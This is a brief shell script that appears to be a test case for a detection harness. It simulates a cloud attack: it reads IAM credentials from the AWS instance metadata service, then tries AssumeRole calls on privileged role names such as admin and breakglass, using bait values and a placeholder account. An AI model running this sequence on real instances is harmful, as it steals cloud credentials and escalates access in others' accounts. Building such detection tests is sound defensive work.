#!/bin/sh
. /opt/case/case.sh

t=$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' http://169.254.169.254/latest/api/token)
c=$(curl -s -H "X-aws-ec2-metadata-token: $t" http://169.254.169.254/latest/meta-data/iam/security-credentials/web)
k=$(echo "$c" | sed 's/.*AccessKeyId": "\([A-Z0-9]*\).*/\1/')
for r in admin OrganizationAccountAccessRole terraform breakglass; do
    curl -sf --aws-sigv4 aws:amz:us-east-1:sts --user "$k:bait" -H 'X-Amz-Security-Token: bait' "http://sts.amazonaws.com/?Action=AssumeRole&RoleSessionName=s&DurationSeconds=3600&RoleArn=arn:aws:iam::000000000000:role/$r" >/dev/null
done
took_place
